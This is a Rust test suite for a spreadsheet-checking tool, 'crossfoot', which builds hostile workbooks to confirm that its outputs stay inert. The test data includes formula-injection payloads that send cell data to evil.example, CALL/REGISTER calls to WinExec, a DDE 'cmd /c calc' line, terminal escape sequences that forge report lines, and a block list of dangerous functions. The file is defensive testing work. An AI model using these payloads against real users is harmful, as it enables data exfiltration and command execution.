//! Hostile inputs stay inert: a branch workbook built to attack the reviewer (live formulas,
//! terminal escapes, forged lines, values beyond Excel's limits) is checked and consolidated
//! next to a clean one. What crossfoot writes holds no dangerous formula, what it prints holds
//! no control character, and the clean branch is still checked and consolidated. Writing
//! leaves no debris, keeps a replaced file's permissions and gives the same bytes twice.

use crate::common;

use common::forms::{plan, write_branch, Branch, Content, Layout};
use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Formula, Workbook};
use std::collections::BTreeMap;
use std::io::{BufRead, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// ESC c (reset), CSI (clear the screen), OSC (set the window title), a right-to-left override,
/// and newlines that forge a clean report line.
const ESCAPES: &str =
    "\u{1b}c\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}\u{2066}\nforged.xlsx\n  clean\n";

/// A sheet name Excel accepts (no `[]:*?/\`) carrying escapes and a newline.
const SHEET_ESCAPES: &str = "M01\u{1b}c\u{9b}2J\u{202e}\nok";

/// The dangerous formulas, each with the cached result the branch's workbook stores.
const DANGEROUS: &[(&str, &str)] = &[
    (
        "_xlfn.WEBSERVICE(\"http://evil.example/?d=\"&C10)",
        "leak-webservice",
    ),
    (
        "WEBSERVICE(\"http://evil.example/\")",
        "leak-webservice-plain",
    ),
    (
        "SUM(_xlfn.WEBSERVICE(\"http://evil.example/\"))",
        "leak-nested",
    ),
    (
        "_xlfn.IMPORTDATA(\"http://evil.example/x.csv\")",
        "leak-importdata",
    ),
    (
        "_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"http://evil.example/\"),\"//a\")",
        "leak-filterxml",
    ),
    (
        "HYPERLINK(\"http://evil.example/?\"&C10,\"open me\")",
        "leak-hyperlink",
    ),
    ("INDIRECT(\"C\"&10)", "leak-indirect"),
    (
        "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
        "leak-call",
    ),
    ("REGISTER(\"kernel32\",\"WinExec\")", "leak-register"),
    ("RTD(\"evil.server\",,\"x\")", "leak-rtd"),
    ("cmd|' /c calc'!A0", "leak-dde"),
    ("[1]Sheet1!A1", "leak-external-index"),
    ("'C:\\secret\\[x.xlsx]Sheet1'!A1", "leak-external-path"),
    ("TongSoBiMat*2", "leak-defined-name"),
    // An error value, or a spill operator, before a function does not hide it (`EVILFN` is
    // WEBSERVICE in the package: see [`UNPREFIXED`]).
    (
        "#REF!EVILFN(\"http://evil.example/\")",
        "leak-after-error-value",
    ),
    ("A1#EVILFN(\"http://evil.example/\")", "leak-after-spill"),
];

/// A function name rust_xlsxwriter writes as it is, replaced in the package by the one it
/// would have written with its `_xlfn.` prefix: a hostile tool writes it without.
const UNPREFIXED: (&str, &str) = ("EVILFN(", "WEBSERVICE(");

/// Names no formula in what crossfoot writes may hold.
const FORBIDDEN: &[&str] = &[
    "WEBSERVICE",
    "IMPORTDATA",
    "FILTERXML",
    "HYPERLINK",
    "INDIRECT",
    "CALL(",
    "REGISTER",
    "RTD(",
    "|",
    "[",
    "TONGSOBIMAT",
];

/// A branch workbook laid out as the template, with `sheet_rename` for M01's sheet and `extra`
/// formulas (with cached results) written to the right of M01's table.
fn write_hostile(
    b: &Branch,
    layout: &Layout,
    sheet_rename: Option<&str>,
    extra: &[(&str, &str)],
) -> Vec<u8> {
    let mut wb = Workbook::new();
    let created = ExcelDateTime::from_ymd(2024, 10, 14).unwrap();
    wb.set_properties(&DocProperties::new().set_creation_datetime(&created));
    for sheet in plan(b, layout) {
        let ws = wb.add_worksheet();
        let name = match (sheet.form, sheet_rename) {
            ("M01", Some(n)) => n.to_string(),
            _ => sheet.name.clone(),
        };
        ws.set_name(&name).unwrap();
        let firsts: Vec<(u32, u16)> = sheet.merges.iter().map(|m| (m.0, m.1)).collect();
        for &(r1, c1, r2, c2) in &sheet.merges {
            let text = match sheet.at(r1, c1).map(|c| &c.content) {
                Some(Content::Text(t)) => t.clone(),
                _ => String::new(),
            };
            ws.merge_range(r1, c1, r2, c2, &text, &Format::new())
                .unwrap();
        }
        for cell in &sheet.cells {
            if firsts.contains(&(cell.row, cell.col)) {
                continue;
            }
            match &cell.content {
                Content::Text(t) => ws.write_string(cell.row, cell.col, t).unwrap(),
                Content::Number(v, None) => ws.write_number(cell.row, cell.col, *v).unwrap(),
                Content::Number(v, Some(f)) => ws
                    .write_number_with_format(
                        cell.row,
                        cell.col,
                        *v,
                        &Format::new().set_num_format(f),
                    )
                    .unwrap(),
                Content::Formula(f, cached) => ws
                    .write_formula(
                        cell.row,
                        cell.col,
                        Formula::new(f)
                            .set_result(cached.map(|v| v.to_string()).unwrap_or_default()),
                    )
                    .unwrap(),
            };
        }
        if sheet.form == "M01" {
            for (k, (f, cached)) in extra.iter().enumerate() {
                ws.write_formula(k as u32, 30, Formula::new(*f).set_result(*cached))
                    .unwrap();
            }
            // Pure formulas are kept, a look-alike in a string included.
            ws.write_formula(0, 31, Formula::new("SUM(C10:C11)").set_result("7"))
                .unwrap();
            ws.write_formula(
                1,
                31,
                Formula::new("IF(C10>0,\"WEBSERVICE(1)\",\"\")").set_result("WEBSERVICE(1)"),
            )
            .unwrap();
        }
    }
    wb.save_to_buffer().unwrap()
}

/// The submissions folder: `a-hostile.xlsx` (dangerous formulas, escapes in the unit name,
/// code, a sheet name and a cell), `b-huge.xlsx` (a 40,000-character unit name and a 1 MB
/// cell), `c-clean.xlsx` (clean).
fn submissions(dir: &Path) -> PathBuf {
    let inputs = dir.join("in");
    std::fs::create_dir(&inputs).unwrap();
    let a = Branch::clean(&format!("Chi bộ {ESCAPES}"), "TD-66", 66);
    let layout_a = Layout {
        text_in: vec![("M01", "1.1", format!("ô {ESCAPES} ghi"))],
        ..Layout::default()
    };
    std::fs::write(
        inputs.join("a-hostile.xlsx"),
        replace_in_package(
            &write_hostile(&a, &layout_a, Some(SHEET_ESCAPES), DANGEROUS),
            &[UNPREFIXED],
        ),
    )
    .unwrap();

    // Texts beyond Excel's limit: rust_xlsxwriter refuses to write them, a hostile branch's
    // tool need not; placeholders are written, then replaced in the package.
    let huge_name = format!("Chi bộ {}", "x".repeat(40_000 - 7));
    assert_eq!(huge_name.chars().count(), 40_000);
    let b = Branch::clean("__HUGE_NAME__", "TD-67", 67);
    // A megabyte of text, not one repeated letter (so it is not a trivially compressed run).
    let mut big = String::with_capacity(1 << 20);
    let mut i = 0u32;
    while big.len() < (1 << 20) {
        big.push_str(&format!("dòng {i} "));
        i += 1;
    }
    let layout_b = Layout {
        text_in: vec![("M01", "1.1", "__HUGE_CELL__".to_string())],
        ..Layout::default()
    };
    let bytes = write_hostile(&b, &layout_b, None, &[]);
    let bytes = replace_in_package(
        &bytes,
        &[("__HUGE_NAME__", &huge_name), ("__HUGE_CELL__", &big)],
    );
    std::fs::write(inputs.join("b-huge.xlsx"), bytes).unwrap();

    let c = Branch::clean("Chi bộ Sạch", "TD-01", 1);
    std::fs::write(
        inputs.join("c-clean.xlsx"),
        write_branch(&c, &Layout::default()),
    )
    .unwrap();
    inputs
}

/// The package with each placeholder replaced (texts without XML specials) in every XML part.
fn replace_in_package(xlsx: &[u8], pairs: &[(&str, &str)]) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().to_string();
        let mut xml = String::new();
        file.read_to_string(&mut xml).unwrap();
        for (from, to) in pairs {
            assert!(!to.contains(['<', '>', '&']));
            xml = xml.replace(from, to);
        }
        out.start_file(name, options).unwrap();
        out.write_all(xml.as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn crossfoot(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_crossfoot"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

/// The characters of a terminal output that a terminal would obey rather than show: every
/// control character but the line end, the direction controls and invisible characters
/// ([`raw_chars`]).
fn obeyed(bytes: &[u8]) -> Vec<String> {
    raw_chars(&String::from_utf8_lossy(bytes), &['\n'])
}

/// The files of an .xlsx package, by name.
fn package(path: &Path) -> BTreeMap<String, String> {
    let bytes = std::fs::read(path).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = BTreeMap::new();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut text = String::new();
        if f.read_to_string(&mut text).is_ok() {
            out.insert(name, text);
        }
    }
    out
}

fn unescape(xml: &str) -> String {
    xml.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Every formula (`<f>` element) of every worksheet of the package.
fn formulas(pkg: &BTreeMap<String, String>) -> Vec<String> {
    let re = regex::Regex::new(r"<f(?:\s[^>]*)?>([^<]*)</f>").unwrap();
    pkg.iter()
        .filter(|(n, _)| n.starts_with("xl/worksheets/sheet"))
        .flat_map(|(_, xml)| {
            re.captures_iter(xml)
                .map(|c| unescape(&c[1]))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Asserts that no formula of the package is dangerous and that every one is on the allow-list
/// (so `fullCalcOnLoad`, when asked for, recalculates nothing but pure calculations).
fn assert_inert(path: &Path) -> Vec<String> {
    let pkg = package(path);
    let fs = formulas(&pkg);
    let strings = regex::Regex::new(r#""(?:[^"]|"")*""#).unwrap();
    for f in &fs {
        // Text inside string literals is data (`"WEBSERVICE(1)"`); everything else is code.
        let upper = strings.replace_all(f, "\"\"").to_uppercase();
        for bad in FORBIDDEN {
            assert!(
                !upper.contains(bad),
                "{}: a dangerous formula was kept: {f}",
                path.display()
            );
        }
        assert!(
            crossfoot::read::formula_safety::is_safe(f),
            "{}: {f}",
            path.display()
        );
    }
    fs
}

/// All comments (notes) of the package, as text.
fn notes(pkg: &BTreeMap<String, String>) -> String {
    pkg.iter()
        .filter(|(n, _)| n.starts_with("xl/comments"))
        .map(|(_, x)| unescape(x))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn hostile_branches_stay_inert_and_the_clean_branch_is_still_checked_and_consolidated() {
    let dir = tempfile::tempdir().unwrap();
    let inputs = submissions(dir.path());
    let review = dir.path().join("review.xlsx");
    let district = dir.path().join("district.xlsx");
    let inputs_s = inputs.to_str().unwrap();

    // check DIR -o review.xlsx
    // In the pack's language (Vietnamese), the terminal and the review workbook alike.
    let out = crossfoot(&["check", inputs_s, "-o", review.to_str().unwrap()]);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        out.status.code().is_some_and(|c| c <= 1),
        "{:?}\n{stderr}",
        out.status
    );
    assert_eq!(obeyed(&out.stdout), Vec::<String>::new(), "stdout");
    assert_eq!(
        obeyed(&out.stderr),
        Vec::<String>::new(),
        "stderr:\n{stderr}"
    );
    // No forged line: the only lines that say `clean` are crossfoot's own verdicts.
    assert!(
        !stdout.lines().any(|l| l.starts_with("forged.xlsx")),
        "{stdout}"
    );
    // The escapes are shown.
    assert!(stdout.contains("\\x1b[2J"), "{stdout}");
    assert!(stdout.contains("U+202E"));
    // The megabyte is cut with its length; the 40,000 characters too.
    assert!(
        out.stdout.len() < 100_000,
        "{} bytes printed",
        out.stdout.len()
    );
    // Its length is said in the report's language (Vietnamese), as the words around it.
    assert!(stdout.contains(" ký tự)"), "{stdout}");
    assert!(!stdout.contains("characters)"), "{stdout}");
    assert!(!stdout.contains(&"x".repeat(1_000)));
    // Every branch is checked: the clean one is clean.
    let clean_line = stdout
        .lines()
        .find(|l| l.contains("c-clean.xlsx"))
        .unwrap_or_else(|| panic!("no line for the clean branch:\n{stdout}"));
    assert!(clean_line.ends_with("  không có sai sót"), "{clean_line}");
    for f in ["a-hostile.xlsx", "b-huge.xlsx"] {
        let part = stdout.split("\n\n").find(|p| p.contains(f)).unwrap();
        assert!(part.contains("biểu: "), "{f} was not checked:\n{part}");
    }

    // The review workbook: no dangerous formula; each shown as text in a note, its cached value
    // kept; pure formulas kept.
    let fs = assert_inert(&review);
    assert!(fs.iter().any(|f| f == "SUM(C10:C11)"), "{fs:?}");
    assert!(fs.iter().any(|f| f.contains("\"WEBSERVICE(1)\"")), "{fs:?}");
    let pkg = package(&review);
    let all_notes = notes(&pkg);
    let cells: String = pkg
        .iter()
        .filter(|(n, _)| {
            n.starts_with("xl/worksheets/sheet") || n.as_str() == "xl/sharedStrings.xml"
        })
        .map(|(_, x)| x.as_str())
        .collect();
    for (f, cached) in DANGEROUS {
        let f = &f.replace(UNPREFIXED.0, UNPREFIXED.1);
        // rust_xlsxwriter stores newer functions with their `_xlfn.` prefix, as Excel does.
        let bare = |t: &str| t.replace("_xlfn.", "");
        assert!(
            bare(&all_notes).contains(&format!("={}", bare(f))),
            "no note shows ={f}"
        );
        assert!(
            cells.contains(cached),
            "the cached value {cached} is missing"
        );
    }
    // The built-in pack is Vietnamese: so are the review workbook's notes.
    assert!(all_notes.contains("Công thức không được giữ lại"));
    // Texts beyond a cell's limit are cut with a marker and a note.
    assert!(cells.contains("… [cut: 40,000 characters]"));
    assert!(
        all_notes.contains("40.000 ký tự"),
        "the note on the cut unit name"
    );
    // The megabyte cell of the marked copy: its note says it was cut (after the finding's).
    let copy_notes: String = pkg
        .iter()
        .filter(|(n, _)| n.starts_with("xl/comments"))
        .filter(|(_, x)| x.contains("value.not-a-number") && x.contains("dòng 0 dòng 1"))
        .map(|(_, x)| unescape(x))
        .collect();
    assert!(
        copy_notes.contains("ký tự, nhiều hơn một ô chứa được"),
        "the note on the cut cell"
    );

    // consolidate DIR -o district.xlsx
    let out = crossfoot(&["consolidate", inputs_s, "-o", district.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(obeyed(&out.stdout), Vec::<String>::new(), "stdout");
    assert_eq!(
        obeyed(&out.stderr),
        Vec::<String>::new(),
        "stderr:\n{stderr}"
    );
    assert_inert(&district);
    let pkg = package(&district);
    let texts: String = pkg
        .iter()
        .filter(|(n, _)| {
            n.starts_with("xl/worksheets/sheet") || n.as_str() == "xl/sharedStrings.xml"
        })
        .map(|(_, x)| x.as_str())
        .collect();
    for code in ["TD-01", "TD-66", "TD-67"] {
        assert!(texts.contains(code), "{code} is not in the summary");
    }
    assert!(texts.contains("… [cut: 40,000 characters]"));
    // The note says the text was cut, in the pack's language (the count as plain digits).
    assert!(notes(&pkg).contains("40000"), "{}", notes(&pkg));
}

#[test]
fn two_consolidate_runs_give_the_same_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let inputs = submissions(dir.path());
    let one = dir.path().join("one.xlsx");
    let two = dir.path().join("two.xlsx");
    for out in [&one, &two] {
        let o = crossfoot(&[
            "consolidate",
            inputs.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ]);
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
        // A second apart at least once: a document time would differ.
        std::thread::sleep(std::time::Duration::from_millis(1_100));
    }
    assert!(std::fs::read(&one).unwrap() == std::fs::read(&two).unwrap());
}

/// Names of the temporary files crossfoot may have left in `dir`.
fn debris(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("crossfoot-tmp") || n.ends_with(".tmp"))
        .collect()
}

#[cfg(unix)]
#[test]
fn replaced_outputs_keep_their_permissions_and_stale_temporary_files_go() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let inputs = submissions(dir.path());
    let review = dir.path().join("review.xlsx");
    let district = dir.path().join("district.xlsx");
    // Earlier outputs of crossfoot (replaced); temporary files of killed runs, an hour old and
    // locked by nobody (removed); a file merely named like an older version's temporary file
    // (kept: crossfoot cannot tell it from a user's file).
    let first = crossfoot(&[
        "check",
        inputs.to_str().unwrap(),
        "-o",
        review.to_str().unwrap(),
    ]);
    assert!(first.status.code().is_some_and(|c| c <= 1));
    let first = crossfoot(&[
        "consolidate",
        inputs.to_str().unwrap(),
        "-o",
        district.to_str().unwrap(),
    ]);
    assert_eq!(first.status.code(), Some(0));
    let hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    let mut kept = Vec::new();
    for out in [&review, &district] {
        std::fs::set_permissions(out, std::fs::Permissions::from_mode(0o600)).unwrap();
        let name = out.file_name().unwrap().to_str().unwrap();
        let stale = dir.path().join(format!(".{name}.crossfoot-tmp.4194301.0"));
        let lookalike = dir.path().join(format!(".{name}.4194301.0.tmp"));
        for p in [&stale, &lookalike] {
            std::fs::write(p, b"x").unwrap();
            let f = std::fs::File::options().write(true).open(p).unwrap();
            f.set_modified(hour_ago).unwrap();
        }
        kept.push(
            lookalike
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned(),
        );
    }
    let o = crossfoot(&[
        "check",
        inputs.to_str().unwrap(),
        "-o",
        review.to_str().unwrap(),
    ]);
    assert!(o.status.code().is_some_and(|c| c <= 1));
    let o = crossfoot(&[
        "consolidate",
        inputs.to_str().unwrap(),
        "-o",
        district.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0));
    for out in [&review, &district] {
        let mode = std::fs::metadata(out).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", out.display());
        assert!(
            std::fs::read(out).unwrap().starts_with(b"PK"),
            "{} was replaced",
            out.display()
        );
    }
    kept.sort();
    assert_eq!(debris(dir.path()), kept);
}

/// The child process of [`a_sigterm_while_writing_leaves_no_temporary_file`]: it starts writing
/// an output and waits, mid-write, to be killed (ignored: only that test runs it, with
/// `--ignored` and the output named in the environment; without it, it does nothing).
#[test]
#[ignore = "the child process of a_sigterm_while_writing_leaves_no_temporary_file"]
fn sigterm_child_writer() {
    let Some(out) = std::env::var_os("CROSSFOOT_SIGTERM_CHILD_OUT") else {
        return;
    };
    let target = crossfoot::write::output::Target::new(
        Path::new(&out),
        crossfoot::write::output::Replace::Forced("review"),
    );
    let r = crossfoot::write::output::write_atomic_with(&target, |f| {
        f.write_all(b"PK partial")?;
        f.flush()?;
        let mut so = std::io::stdout().lock();
        writeln!(so, "temporary file written")?;
        so.flush()?;
        std::thread::sleep(std::time::Duration::from_secs(60));
        Ok(())
    });
    panic!("the writer was not killed: {r:?}");
}

#[cfg(unix)]
#[test]
fn a_sigterm_while_writing_leaves_no_temporary_file() {
    use std::os::unix::process::ExitStatusExt;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("review.xlsx");
    std::fs::write(&out, b"last week's").unwrap();
    let mut child = Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            &crate::common::test_name(module_path!(), "sigterm_child_writer"),
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("CROSSFOOT_SIGTERM_CHILD_OUT", &out)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let ready = lines.any(|l| l.is_ok_and(|l| l.contains("temporary file written")));
    assert!(ready, "the child never started writing");
    // Mid-write: the temporary file is there.
    assert_eq!(debris(dir.path()).len(), 1, "{:?}", debris(dir.path()));
    // SAFETY: kill with the child's own id.
    unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
    let status = child.wait().unwrap();
    assert_eq!(
        status.signal(),
        Some(libc::SIGTERM),
        "{status:?}: the signal still ends the process"
    );
    assert_eq!(debris(dir.path()), Vec::<String>::new());
    assert_eq!(std::fs::read(&out).unwrap(), b"last week's");
}

// ---------------------------------------------------------------------------------------------
// Every writer, one hostile string

/// What a hostile input may carry: OSC 0 (window title) ended by BEL, CSI (clear the screen),
/// OSC 8 (a hyperlink) ended by ST, the 8-bit CSI, DEL, NEL, a right-to-left override, an
/// isolate, a zero-width space, a byte order mark, a tag character, a line end that would
/// forge a report line, and the characters each format gives a meaning (`%`, `:`, `,`, `&`,
/// `<`, `"`).
const HOSTILE: &str = "\u{1b}]0;OWNED\u{7}\u{1b}[2J\u{1b}]8;;http://evil.example/\u{1b}\\x\u{1b}]8;;\u{1b}\\\u{9b}31m\u{7f}\u{85}\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041}\nforged: 100% <b>&amp;\"a,b\"";

/// A file name a branch may send (no `/`, no NUL).
const HOSTILE_FILE: &str =
    "x-\u{1b}]0;OWNED\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{200b}\nforged.xlsx.xlsx";

/// The characters an output may not hold raw: every control character but those `allowed`,
/// DEL, C1, direction controls, separators and invisible characters. A list of its own, not
/// crossfoot's: the test must not share the code's blind spots.
fn raw_chars(text: &str, allowed: &[char]) -> Vec<String> {
    text.char_indices()
        .filter(|(_, c)| {
            let c = *c;
            ((c as u32) < 0x20 && !allowed.contains(&c))
                || ('\u{7f}'..='\u{9f}').contains(&c)
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
                || ('\u{200b}'..='\u{200f}').contains(&c)
                || ('\u{e0000}'..='\u{e007f}').contains(&c)
                || matches!(
                    c,
                    '\u{61c}' | '\u{2028}' | '\u{2029}' | '\u{2060}' | '\u{feff}'
                )
        })
        .map(|(i, c)| format!("U+{:04X} at {i}", c as u32))
        .collect()
}

/// Asserts a text output holds nothing raw (`allowed`: the control characters its format
/// allows) and is UTF-8.
fn assert_shown(what: &str, bytes: &[u8], allowed: &[char]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    let raw = raw_chars(text, allowed);
    assert!(raw.is_empty(), "{what}: {raw:?}\n{text}");
}

/// Every string of a JSON value, keys included.
fn json_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|x| json_strings(x, out)),
        serde_json::Value::Object(o) => o.iter().for_each(|(k, x)| {
            out.push(k.clone());
            json_strings(x, out);
        }),
        _ => {}
    }
}

/// Whether XML 1.0 allows `c`.
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r')
        || ('\u{20}'..='\u{d7ff}').contains(&c)
        || ('\u{e000}'..='\u{fffd}').contains(&c)
        || c >= '\u{10000}'
}

/// Asserts `xml` is a well-formed XML document: only characters XML allows (also those its
/// character references stand for), one root, every element closed by its own name, every
/// attribute once and readable, only the five predefined entities.
fn assert_well_formed(what: &str, xml: &str) {
    use quick_xml::events::Event;
    if let Some((i, c)) = xml.char_indices().find(|(_, c)| !xml_char(*c)) {
        panic!(
            "{what}: U+{:04X} at {i}: …{}…",
            c as u32,
            xml[..i]
                .chars()
                .rev()
                .take(80)
                .collect::<String>()
                .chars()
                .rev()
                .collect::<String>()
        );
    }
    let check_attrs = |e: &quick_xml::events::BytesStart| {
        for a in e.attributes() {
            let a = a.unwrap_or_else(|e| panic!("{what}: {e}"));
            let v = a
                .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                .unwrap_or_else(|e| panic!("{what}: {e}"));
            assert!(v.chars().all(xml_char), "{what}: attribute {v:?}");
        }
    };
    let mut reader = quick_xml::Reader::from_str(xml);
    let (mut depth, mut roots) = (0i64, 0);
    loop {
        let event = reader
            .read_event()
            .unwrap_or_else(|e| panic!("{what}: {e} at {}", reader.buffer_position()));
        match event {
            Event::Eof => break,
            Event::Start(e) => {
                roots += i32::from(depth == 0);
                depth += 1;
                check_attrs(&e);
            }
            Event::Empty(e) => {
                roots += i32::from(depth == 0);
                check_attrs(&e);
            }
            Event::End(_) => depth -= 1,
            Event::GeneralRef(r) if r.is_char_ref() => {
                let c = r
                    .resolve_char_ref()
                    .unwrap_or_else(|e| panic!("{what}: {e}"));
                assert!(c.is_some_and(xml_char), "{what}: &#…; {c:?}");
            }
            Event::GeneralRef(r) => {
                let name = r[..].to_string();
                assert!(
                    ["amp", "lt", "gt", "quot", "apos"].contains(&name.as_str()),
                    "{what}: &{name};"
                );
            }
            Event::Text(t) if depth == 0 => {
                assert!(t[..].trim().is_empty(), "{what}: text outside the root");
            }
            _ => {}
        }
    }
    assert_eq!((depth, roots), (0, 1), "{what}: unbalanced");
}

/// Asserts every XML part of the .xlsx at `path` is well-formed; gives the parts.
fn assert_package_well_formed(path: &Path) -> BTreeMap<String, String> {
    let pkg = package(path);
    let mut xml_parts = 0;
    for (name, xml) in &pkg {
        if name.ends_with(".xml") || name.ends_with(".rels") || name.ends_with(".vml") {
            assert_well_formed(&format!("{}: {name}", path.display()), xml);
            xml_parts += 1;
        }
    }
    assert!(xml_parts >= 5, "{}: {:?}", path.display(), pkg.keys());
    pkg
}

/// Every text cell of the sheets at `indexes` (None: every sheet) of the workbook at `path`, as
/// a spreadsheet program reads it (`_x001B_` decoded), with where it is.
fn sheet_texts(path: &Path, indexes: Option<&[usize]>) -> Vec<(String, String)> {
    use calamine::{Data, Reader};
    let mut wb = calamine::open_workbook_auto(path).unwrap();
    let names = wb.sheet_names();
    let mut out = Vec::new();
    for (i, name) in names.iter().enumerate() {
        if indexes.is_some_and(|ix| !ix.contains(&i)) {
            continue;
        }
        let range = wb.worksheet_range(name).unwrap();
        for (r, c, v) in range.used_cells() {
            if let Data::String(s) = v {
                out.push((format!("{name}!R{r}C{c}"), s.clone()));
            }
        }
    }
    out
}

/// Asserts crossfoot's own texts of a workbook (the sheets at `indexes`, None: all) hold
/// nothing raw but line ends and tabs.
fn assert_own_sheets_shown(path: &Path, indexes: Option<&[usize]>) -> String {
    let texts = sheet_texts(path, indexes);
    assert!(!texts.is_empty(), "{}", path.display());
    for (at, t) in &texts {
        assert_shown(
            &format!("{}: {at}", path.display()),
            t.as_bytes(),
            &['\n', '\t'],
        );
    }
    texts
        .into_iter()
        .map(|(_, t)| t)
        .collect::<Vec<_>>()
        .join("\n")
}

/// The submissions of [`every_writer_shows_hostile_text_and_writes_well_formed_xml`]: a branch
/// whose file name, unit name, sheet name and a cell carry [`HOSTILE`]; one whose unit code
/// and name are written with OOXML's escapes (`_x001B_`, which a reader decodes to ESC) in a
/// well-formed package; a clean one.
fn hostile_text_submissions(dir: &Path) -> PathBuf {
    let inputs = dir.join("in");
    std::fs::create_dir(&inputs).unwrap();
    let a = Branch::clean(&format!("Chi bộ {HOSTILE}"), "TD-66", 66);
    let layout = Layout {
        text_in: vec![("M01", "1.1", format!("ô {HOSTILE} ghi"))],
        ..Layout::default()
    };
    let sheet = "M01\u{1b}c\u{9b}2J\u{202e}\u{200b}\nok";
    std::fs::write(
        inputs.join(HOSTILE_FILE),
        write_hostile(&a, &layout, Some(sheet), &[]),
    )
    .unwrap();

    let b = Branch::clean("Chi bộ __ESCAPED__", "TD-68__ESCAPED__", 68);
    // A cell too: its finding's message is the Summary's link to it.
    let layout = Layout {
        text_in: vec![("M01", "1.1", "ô __ESCAPED__ ghi".to_string())],
        ..Layout::default()
    };
    let bytes = replace_in_package(
        &write_hostile(&b, &layout, None, &[]),
        &[(
            "__ESCAPED__",
            "_x001B_]0;OWNED_x0007__x001B_[2J_x009B__x202E_",
        )],
    );
    std::fs::write(inputs.join("b-escaped.xlsx"), bytes).unwrap();

    let c = Branch::clean("Chi bộ Sạch", "TD-01", 1);
    std::fs::write(
        inputs.join("c-clean.xlsx"),
        write_branch(&c, &Layout::default()),
    )
    .unwrap();
    inputs
}

#[test]
fn every_writer_shows_hostile_text_and_writes_well_formed_xml() {
    let dir = tempfile::tempdir().unwrap();
    let inputs = hostile_text_submissions(dir.path());
    let inputs_s = inputs.to_str().unwrap();
    let review = dir.path().join("review.xlsx");
    let marks = dir.path().join("mk");

    // The terminal report, with the review workbook and every marked copy written.
    let out = crossfoot(&[
        "check",
        inputs_s,
        "-o",
        review.to_str().unwrap(),
        "--mark",
        marks.to_str().unwrap(),
        "--mark-all",
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_shown("human stdout", &out.stdout, &['\n']);
    assert_shown("human stderr", &out.stderr, &['\n']);
    // Shown: the ESC of the name, of the file name, and the one the reader decoded.
    assert!(stdout.contains("\\x1b]0;OWNED\\x07"), "{stdout}");
    assert!(stdout.contains("x-\\x1b]0;OWNED"), "{stdout}");
    assert!(stdout.contains("TD-68\\x1b]0;OWNED"), "{stdout}");
    assert!(
        stdout.contains("ô \\x1b]0;OWNED\\x07\\x1b[2J\\u{9b}U+202E ghi"),
        "{stdout}"
    );
    assert!(!stdout.lines().any(|l| l.starts_with("forged")), "{stdout}");

    // JSON: the exact text, each hidden character as a \u escape.
    let out = crossfoot(&["check", inputs_s, "--format", "json"]);
    assert_shown("json", &out.stdout, &['\n']);
    assert_shown("json stderr", &out.stderr, &['\n']);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let files = json["files"].as_array().unwrap();
    assert!(
        files
            .iter()
            .any(|f| f["path"].as_str().unwrap().ends_with(HOSTILE_FILE)),
        "{files:?}"
    );
    assert!(
        files
            .iter()
            .any(|f| f["unit"]["name"].as_str() == Some(&format!("Chi bộ {HOSTILE}"))),
        "{files:?}"
    );
    assert!(files.iter().any(|f| f["unit"]["code"]
        .as_str()
